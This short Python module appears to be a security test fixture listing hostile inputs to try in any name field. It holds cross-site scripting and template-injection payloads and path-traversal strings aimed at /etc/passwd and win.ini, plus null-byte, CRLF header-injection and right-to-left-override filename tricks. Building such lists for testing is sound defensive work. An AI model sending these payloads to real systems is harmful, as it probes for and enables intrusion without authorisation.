"""In: nothing. Out: names that are script, and names that are paths, to be tried wherever a name can be sent."""

from typing import Final

SCRIPTS: Final = (
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "' autofocus onfocus=alert(1) x='",
    "</title></style><svg onload=alert(1)>",
    "<iframe srcdoc='<script>top.alert(1)</script>'>",
    "javascript:alert(1)//",
    "{{7*7}}${alert(1)}<%= 7*7 %>",
    "]]>--><b>bold</b><!--",
)
PATHS: Final = (
    "../../../../etc/passwd",
    "..\\..\\..\\windows\\win.ini",
    "/etc/passwd",
    "....//....//etc/passwd",
    "..%2f..%2fetc%2fpasswd",
    "%2e%2e/%2e%2e/etc/passwd",
    "..%252f..%252fetc%252fpasswd",
    "a.jpg\0.txt",
    "a.jpg\r\nSet-Cookie: x=1",
    "CON",
    "file:///etc/passwd",
    "\u202egpj.exe",
)
